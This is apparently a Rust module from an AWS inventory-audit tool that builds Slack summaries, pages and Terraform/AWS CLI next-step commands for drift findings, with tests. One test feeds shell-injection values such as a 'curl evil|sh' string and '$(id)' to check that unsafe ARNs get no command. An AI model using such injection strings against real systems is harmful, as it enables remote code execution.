//! What people read: in the channel, in a page, in the record. Nothing of a state's content is known here.

use shared::findings::{self, Changes, NAME, Told};
use shared::first_week::{FirstWeek, Held};
use shared::language::Language;
use shared::notify::Message;
use shared::paging::{self, Page};
use shared::policy::{Area, Kind, Responsible};
use shared::report::Unread;
use shared::settings::Settings;

use crate::policy::{Problem, Row};
use crate::state::terraform_type;
use crate::table;

/// Most lines of findings in a message; Slack cuts a longer one without saying so.
const MOST_LINES: usize = 8;

/// The line of a problem in the evidence record: its key and the details.
pub(crate) fn line(row: &Row, problem: &Problem) -> String {
    format!("{}: {}", row.key(problem), sentence(problem, Language::English))
}

/// What is wrong, in a sentence.
fn sentence(problem: &Problem, language: Language) -> String {
    match problem {
        Problem::NothingRead => language
            .pick("nada do inventário pôde ser visto", "nothing of the inventory could be seen")
            .to_owned(),
        Problem::Missing { is_in_state } => {
            let known = match is_in_state {
                Some(true) => language.pick(
                    "não existe na AWS, e o estado do Terraform diz que existe",
                    "does not exist in AWS, and the Terraform state says that it does",
                ),
                Some(false) => language.pick(
                    "não existe na AWS, nem no estado do Terraform",
                    "exists neither in AWS nor in the Terraform state",
                ),
                None => language.pick(
                    "não existe na AWS; o estado do Terraform não foi lido",
                    "does not exist in AWS; the Terraform state was not read",
                ),
            };
            known.to_owned()
        }
        Problem::InsufficientData { why } => {
            format!("{}: {why}", language.pick("não foi possível verificar", "could not be checked"))
        }
        Problem::StateUndeclared => language
            .pick(
                "a stack não diz onde está o estado do Terraform, então nada foi comparado com ele",
                "the stack does not say where the Terraform state is, so nothing was compared with it",
            )
            .to_owned(),
        Problem::StateUnreadable { why } => format!(
            "{}: {why}",
            language.pick(
                "o estado do Terraform não pôde ser lido, então nada foi comparado com ele",
                "the Terraform state could not be read, so nothing was compared with it",
            )
        ),
        Problem::ListUnread { why } => format!(
            "{}: {why}",
            language.pick(
                "não foi possível listar o que mais o projeto tem na AWS",
                "what else the project has in AWS could not be listed",
            )
        ),
        Problem::TagsMissing { tags } => {
            let tags: Vec<_> = tags.iter().map(|(key, _)| *key).collect();
            format!(
                "{} {}",
                language.pick(
                    "tags faltando ou com outro valor:",
                    "tags that are missing or say something else:"
                ),
                tags.join(", ")
            )
        }
        Problem::NotInState => language
            .pick(
                "existe na AWS e não está no estado do Terraform",
                "exists in AWS and not in the Terraform state",
            )
            .to_owned(),
        Problem::NotInInventory => language
            .pick(
                "tem as tags do ambiente e não está no inventário, então ninguém responde por ele",
                "has the environment's tags and is not in the inventory, so nobody answers for it",
            )
            .to_owned(),
        Problem::EmptyArea => language
            .pick("a área não tem nenhum recurso no inventário", "the area has no resource in the inventory")
            .to_owned(),
        Problem::OneTeam => language
            .pick(
                "responsável e backup são a mesma equipe, então não há backup",
                "primary and backup are the same team, so there is no backup",
            )
            .to_owned(),
    }
}

/// What to do next, with the command.
fn next_step(settings: &Settings, row: &Row, problem: &Problem) -> String {
    let language = settings.language;
    let area = row.area.unwrap_or(Area::Infrastructure).name();
    let again = format!("`aws lambda invoke --function-name {} /dev/stdout`", settings.function);
    match problem {
        Problem::NothingRead | Problem::InsufficientData { .. } | Problem::ListUnread { .. } => format!(
            "{} {again}",
            language.pick(
                "conferir a permissão (IAM) que o erro nomeia e invocar de novo:",
                "check the permission (IAM) that the error names, and invoke again:",
            )
        ),
        Problem::Missing { is_in_state: Some(true) } => language
            .pick(
                "ver com `terraform plan` o que foi apagado fora do Terraform e recriar com `terraform apply`; um banco ou bucket volta primeiro do backup",
                "see with `terraform plan` what was deleted outside Terraform, and make it again with `terraform apply`; a database or bucket comes back from its backup first",
            )
            .to_owned(),
        Problem::Missing { .. } => format!(
            "{} inventory.areas.{area}.resources.{} ({})",
            language.pick(
                "criar no Terraform e `terraform apply`, ou, se o nome é outro, corrigir na política",
                "declare it in Terraform and `terraform apply`, or, if its name is another, correct it in the policy's",
            ),
            row.kind,
            language.pick("parâmetro Policy", "parameter Policy"),
        ),
        Problem::StateUndeclared => language
            .pick(
                "informar TerraformStateBucketName e TerraformStateKey no deploy da stack (docs/inventario.md); um estado local não pode ser lido",
                "give TerraformStateBucketName and TerraformStateKey when deploying the stack (docs/inventario.md); a local state cannot be read",
            )
            .to_owned(),
        Problem::StateUnreadable { .. } => format!(
            "{} {again}",
            language.pick(
                "conferir TerraformStateBucketName, TerraformStateKey e TerraformStateKmsKeyArn da stack, e invocar de novo:",
                "check the stack's TerraformStateBucketName, TerraformStateKey and TerraformStateKmsKeyArn, and invoke again:",
            )
        ),
        Problem::TagsMissing { tags } => {
            let tags: Vec<_> = tags
                .iter()
                .map(|(key, value)| format!("{key}={}", value.as_deref().unwrap_or("terraform")))
                .collect();
            let tags = tags.join(",");
            let command = format!("tag-resources --resource-arn-list '{}' --tags {tags}", row.arn);
            format!(
                "{} {}",
                language.pick("corrigir em default_tags do Terraform, ou já:", "correct it in Terraform's default_tags, or now:"),
                tagging(row, &command, language)
            )
        }
        Problem::NotInState => format!(
            "{} {}",
            language.pick("declarar no Terraform e importar:", "declare it in Terraform and import it:"),
            import(row, language)
        ),
        Problem::NotInInventory => format!(
            "{} inventory.areas.….resources.{} ({})",
            language.pick(
                "acrescentar à área que responde por ele na política,",
                "add it to the area that answers for it in the policy,",
            ),
            row.kind,
            language.pick("parâmetro Policy", "parameter Policy"),
        ),
        Problem::OneTeam => {
            let place = if row.kind == "area" {
                format!("inventory.areas.{area}.responsible.backup")
            } else {
                "rotation.secrets.….responsible.backup".to_owned()
            };
            format!(
                "{} {place} ({})",
                language.pick("nomear outra equipe em", "name another team in"),
                language.pick("parâmetro Policy", "parameter Policy"),
            )
        }
        Problem::EmptyArea => format!(
            "{} inventory.areas.{area}.resources ({})",
            language.pick("nomear os recursos dela em", "name its resources in"),
            language.pick("parâmetro Policy", "parameter Policy"),
        ),
    }
}

/// A command of the tagging API about a resource, unless its ARN holds what a shell would run.
fn tagging(row: &Row, command: &str, language: Language) -> String {
    let is_harmless = |c: char| c.is_ascii_alphanumeric() || ":/_.+=@#,-".contains(c);
    if row.arn.chars().all(is_harmless) {
        return format!("`aws resourcegroupstaggingapi {command}`");
    }
    language
        .pick(
            "pelo console: o nome dele tem caracteres que um shell executaria",
            "in the console: its name has characters that a shell would run",
        )
        .to_owned()
}

/// How Terraform takes a resource over.
fn import(row: &Row, language: Language) -> String {
    let kinds =
        [Kind::EcsCluster, Kind::EcsService, Kind::LogGroup, Kind::RdsInstance, Kind::S3Bucket, Kind::Secret];
    let Some(kind) = kinds.into_iter().find(|kind| kind.name() == row.kind) else {
        let command = format!("get-resources --resource-arn-list '{}'", row.arn);
        return tagging(row, &command, language);
    };
    // Each provider's own id; a secret's is its ARN.
    let id = if kind == Kind::Secret { &row.arn } else { &row.name };
    format!("`terraform import {}.NOME '{id}'`", terraform_type(kind))
}

fn people(responsible: &Responsible, language: Language) -> String {
    let who = language.pick("Responsável", "Responsible");
    format!("{who}: {}, backup: {}", responsible.primary, responsible.backup)
}

/// The page of a problem that wakes somebody.
pub(crate) fn page(settings: &Settings, row: &Row, problem: &Problem) -> Page {
    let language = settings.language;
    let dedup_key = format!("inventory-audit/{}/{}/{}", row.kind, row.name, problem.kind());
    Page {
        subject: paging::subject(&format!("[{}] {}: {}", settings.environment, problem.kind(), row.about())),
        text: format!(
            "{} ({}): {}.\n{}: {}.\n{}.\n{dedup_key}",
            row.about(),
            settings.environment,
            sentence(problem, language),
            language.pick("Próximo passo", "Next step"),
            next_step(settings, row, problem),
            people(&row.responsible, language),
        ),
        dedup_key,
        secret: row.name.clone(),
    }
}

/// What a run tells the channel.
pub(crate) struct Summary<'a> {
    /// Run id.
    pub run_id: &'a str,
    /// What was decided, worst first.
    pub rows: &'a [Row],
    /// What has changed since the record before.
    pub changes: &'a Changes,
    /// Whether everything is told, not only what changed.
    pub is_weekly: bool,
    /// Why the record before could not be read, if it could not; then everything is told.
    pub unread: Option<&'a Unread>,
    /// The first week, if it is not over.
    pub quiet: Option<Quiet<'a>>,
}

/// What the first week makes of a message.
#[derive(Clone, Copy)]
pub(crate) struct Quiet<'a> {
    /// The week.
    pub week: FirstWeek,
    /// What waits for its end.
    pub held: Held,
    /// Whether the message is a summary.
    pub is_summary: bool,
    /// Where everything stands.
    pub place: &'a str,
}

/// All that is wrong, in the order in which it is to be settled.
fn ordered(settings: &Settings, rows: &[Row]) -> Vec<Told> {
    let all = rows.iter().flat_map(|row| row.problems.iter().map(move |problem| (row, problem)));
    let mut all: Vec<_> = all.collect();
    all.sort_by_key(|(_, problem)| *problem);
    let told = |(row, problem): (&Row, &Problem)| {
        let step = next_step(settings, row, problem);
        let mut pattern = step.clone();
        for (text, placeholder) in [(&row.arn, "ARN"), (&row.name, NAME)] {
            if !text.is_empty() {
                pattern = pattern.replace(&format!("'{text}'"), &format!("'{placeholder}'"));
            }
        }
        let sentence = sentence(problem, settings.language);
        Told { kind: problem.kind().to_owned(), about: row.about(), sentence, step, pattern }
    };
    all.into_iter().map(told).collect()
}

/// The channel's message.
pub(crate) fn summary(settings: &Settings, summary: &Summary<'_>) -> Message {
    let language = settings.language;
    let all = || summary.rows.iter().flat_map(|row| row.problems.iter().map(move |problem| (row, problem)));
    let unverified = all().filter(|(_, problem)| problem.is_unverified()).count();
    let wrong = all().count() - unverified;
    let title = format!(
        "{} ({}): {wrong} {}, {unverified} {}",
        match (language, summary.is_weekly) {
            (Language::Portuguese, false) => "Inventário",
            (Language::Portuguese, true) => "Inventário, resumo da semana",
            (Language::English, false) => "Inventory",
            (Language::English, true) => "Inventory, the week's summary",
        },
        settings.environment,
        language.pick("achado(s)", "finding(s)"),
        language.pick("não verificado(s)", "not verified"),
    );
    let tells_all = summary.is_weekly || summary.unread.is_some();
    let is_summary = summary.quiet.is_some_and(|quiet| quiet.is_summary);
    let is_told = |row: &Row, problem: &Problem| {
        !is_summary && (tells_all || summary.changes.new.contains(&row.key(problem)))
    };
    let told: Vec<_> = all().filter(|(row, problem)| is_told(row, problem)).collect();
    let mut lines: Vec<_> = summary.unread.iter().map(|unread| unread.text(language)).collect();
    lines.extend(match summary.quiet {
        Some(Quiet { week, held, is_summary: true, place }) => {
            week.summary(held, place, &findings::groups(&ordered(settings, summary.rows)), language)
        }
        quiet => quiet.map(|quiet| quiet.week.line(quiet.held, quiet.place, language)).into_iter().collect(),
    });
    let each: Vec<String> = told
        .iter()
        .take(MOST_LINES)
        .map(|(row, problem)| {
            format!(
                "*{}* `{}`: {}. {}: {}. {}.",
                problem.kind(),
                row.about(),
                sentence(problem, language),
                language.pick("Próximo passo", "Next step"),
                next_step(settings, row, problem),
                people(&row.responsible, language),
            )
        })
        .collect();
    lines.extend(each);
    let more = told.len().saturating_sub(MOST_LINES);
    if more > 0 {
        lines.push(format!("{} {more}: `{}`.", language.pick("E mais", "And more:"), table::KEY));
    }
    let still = all().count() - told.len();
    if still > 0 && !is_summary {
        lines.push(format!("{} {still}: `{}`.", language.pick("Continuam", "Still so:"), table::KEY));
    }
    let resolved: Vec<_> = summary.changes.resolved.iter().take(MOST_LINES).cloned().collect();
    if !resolved.is_empty() {
        let more = summary.changes.resolved.len().saturating_sub(resolved.len());
        let more = if more > 0 { format!(" (+{more})") } else { String::new() };
        lines.push(format!("{} {}{more}.", language.pick("Resolvido:", "Resolved:"), resolved.join("; ")));
    }
    if lines.is_empty() {
        lines.push(
            language
                .pick(
                    "Todo recurso do inventário existe, tem as tags, está no Terraform e tem quem responda por ele.",
                    "Every resource of the inventory exists, has the tags, is in Terraform and has people who answer for it.",
                )
                .to_owned(),
        );
    }
    let context = format!("{} · {} · {}", settings.function, summary.run_id, settings.code_version);
    Message { title, lines, context }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;
    use crate::policy::Verdict;

    fn settings(language: Language) -> Settings {
        Settings {
            function: "moveongs-dev-inventory-audit".to_owned(),
            project: "moveongs".to_owned(),
            environment: "dev".to_owned(),
            code_version: "abc".to_owned(),
            language,
            policy: "".parse().unwrap(),
        }
    }

    fn row(kind: &str, name: &str, problems: Vec<Problem>) -> Row {
        Row {
            area: Some(Area::Database),
            kind: kind.to_owned(),
            name: name.to_owned(),
            arn: format!("arn:aws:x:{name}"),
            responsible: Responsible { primary: "Squad Dados".to_owned(), backup: "Squad Infra".to_owned() },
            exists: Verdict::Fine,
            tags: Verdict::Fine,
            state: Verdict::Fine,
            problems,
        }
    }

    #[test]
    fn every_problem_tells_a_command_or_a_field_in_both_languages() {
        let why = || "s3:GetObject failed (AccessDenied): x".to_owned();
        let row = row("rds-instance", "moveongs-dev-db", Vec::new());
        for (problem, expected) in [
            (Problem::NothingRead, "aws lambda invoke --function-name moveongs-dev-inventory-audit"),
            (Problem::Missing { is_in_state: Some(true) }, "terraform apply"),
            (
                Problem::Missing { is_in_state: Some(false) },
                "inventory.areas.database.resources.rds-instance",
            ),
            (Problem::Missing { is_in_state: None }, "terraform apply"),
            (Problem::InsufficientData { why: why() }, "aws lambda invoke"),
            (Problem::StateUndeclared, "TerraformStateBucketName"),
            (Problem::StateUnreadable { why: why() }, "TerraformStateKey"),
            (Problem::ListUnread { why: why() }, "aws lambda invoke"),
            (
                Problem::TagsMissing {
                    tags: vec![("Environment", Some("dev".to_owned())), ("ManagedBy", None)],
                },
                "tag-resources --resource-arn-list 'arn:aws:x:moveongs-dev-db' --tags Environment=dev,ManagedBy=terraform`",
            ),
            (Problem::NotInState, "terraform import aws_db_instance.NOME 'moveongs-dev-db'"),
            (Problem::NotInInventory, "resources.rds-instance"),
            (Problem::OneTeam, "rotation.secrets.….responsible.backup"),
            (Problem::EmptyArea, "inventory.areas.database.resources"),
        ] {
            let mut said = BTreeSet::new();
            for language in [Language::Portuguese, Language::English] {
                let next = next_step(&settings(language), &row, &problem);
                assert!(next.contains(expected), "{problem:?}: {next}");
                said.insert(sentence(&problem, language));
            }
            assert_eq!(said.len(), 2, "{problem:?}");
            assert_eq!(shared::findings::key_of(&line(&row, &problem)), row.key(&problem));
        }
    }

    #[test]
    fn a_secret_is_imported_by_its_arn_and_an_unknown_kind_is_looked_at() {
        assert_eq!(
            import(&row("secret", "x", vec![]), Language::English),
            "`terraform import aws_secretsmanager_secret.NOME 'arn:aws:x:x'`"
        );
        assert!(
            import(&row("sns:topic", "x", vec![]), Language::English)
                .contains("get-resources --resource-arn-list 'arn:aws:x:x'")
        );
        for hostile in ["x';curl evil|sh;'", "x`id`", "x$(id)", "x y", "x\ny", "é"] {
            let said = import(&row("cloudwatch:alarm", hostile, vec![]), Language::English);
            assert!(said.contains("in the console") && !said.contains(hostile), "{said}");
        }
        let area = row("area", "database", vec![]);
        let next = next_step(&settings(Language::English), &area, &Problem::OneTeam);
        assert!(next.contains("inventory.areas.database.responsible.backup"), "{next}");
    }

    #[test]
    fn a_page_names_both_teams_and_the_next_step() {
        let missing = Problem::Missing { is_in_state: None };
        let page =
            page(&settings(Language::Portuguese), &row("rds-instance", "moveongs-dev-db", vec![]), &missing);
        assert_eq!(page.subject, "[dev] Missing: rds-instance moveongs-dev-db");
        assert_eq!(page.dedup_key, "inventory-audit/rds-instance/moveongs-dev-db/Missing");
        for part in ["Responsável: Squad Dados, backup: Squad Infra.", "Próximo passo: criar no Terraform"]
        {
            assert!(page.text.contains(part), "{}", page.text);
        }
    }

    #[test]
    fn the_channel_is_told_what_is_new_and_once_a_week_everything() {
        let rows: Vec<_> = (0..12)
            .map(|number| row("s3-bucket", &format!("b{number:02}"), vec![Problem::NotInInventory]))
            .chain([row("tagged-resources", "x", vec![Problem::ListUnread { why: "y".to_owned() }])])
            .collect();
        let keys = |keys: &[&str]| keys.iter().map(|key| (*key).to_owned()).collect::<BTreeSet<_>>();
        let changes = Changes {
            new: keys(&["NotInInventory s3-bucket b03"]),
            resolved: keys(&["Missing rds-instance moveongs-dev-db"]),
        };
        let tell = |is_weekly| {
            let told = Summary {
                run_id: "2026-03-02",
                rows: &rows,
                changes: &changes,
                is_weekly,
                unread: None,
                quiet: None,
            };
            summary(&settings(Language::Portuguese), &told)
        };
        let message = tell(false);
        assert_eq!(message.title, "Inventário (dev): 12 achado(s), 1 não verificado(s)");
        assert_eq!(message.lines.len(), 3, "{:?}", message.lines);
        assert!(
            message.lines[0].starts_with("*NotInInventory* `s3-bucket b03`: tem as tags"),
            "{:?}",
            message.lines
        );
        assert_eq!(message.lines[1], "Continuam 12: `inventory/inventory.csv`.");
        assert_eq!(message.lines[2], "Resolvido: Missing rds-instance moveongs-dev-db.");
        let message = tell(true);
        assert!(message.title.starts_with("Inventário, resumo da semana"), "{}", message.title);
        assert_eq!(message.lines.len(), MOST_LINES + 2);
        assert_eq!(message.lines[MOST_LINES], "E mais 5: `inventory/inventory.csv`.");
        let nothing = Summary {
            run_id: "x",
            rows: &[],
            changes: &Changes::default(),
            is_weekly: true,
            unread: None,
            quiet: None,
        };
        let message = summary(&settings(Language::English), &nothing);
        assert_eq!(message.lines.len(), 1);
        assert!(message.lines[0].starts_with("Every resource"), "{:?}", message.lines);
    }

    #[test]
    fn a_first_week_begins_with_what_to_do_first() {
        let rows: Vec<_> = (0..12)
            .map(|number| row("s3-bucket", &format!("b{number:02}"), vec![Problem::NotInState]))
            .chain([row("rds-instance", "moveongs-dev-db", vec![Problem::Missing { is_in_state: None }])])
            .collect();
        let week = FirstWeek { until: "2026-03-08T12:00:00Z".parse().unwrap(), is_first_day: true };
        let tell = |is_summary| {
            let told = Summary {
                run_id: "2026-03-02",
                rows: &rows,
                changes: &Changes::default(),
                is_weekly: false,
                unread: None,
                quiet: Some(Quiet {
                    week,
                    held: Held { pages: 1, tasks: 0 },
                    is_summary,
                    place: "s3://b/x.csv",
                }),
            };
            summary(&settings(Language::Portuguese), &told).lines
        };
        let lines = tell(true);
        assert!(lines[0].contains("até 2026-03-08 09:00:00 -03:00") && lines[0].contains("s3://b/x.csv"));
        assert_eq!(lines[1], "*Por regra*: Missing 1; NotInState 12.");
        assert!(lines[3].starts_with("1. *Missing* `rds-instance moveongs-dev-db`: não existe"), "{lines:?}");
        assert!(lines[4].starts_with("2. *NotInState* (12): existe na AWS"), "{lines:?}");
        assert!(lines[4].contains("terraform import aws_s3_bucket.NOME 'NOME'"), "{lines:?}");
        assert_eq!(lines.len(), 5, "{lines:?}");
        let lines = tell(false);
        assert!(
            lines[0].starts_with("*Primeira semana*") && lines[1].starts_with("Continuam 13"),
            "{lines:?}"
        );
    }
}
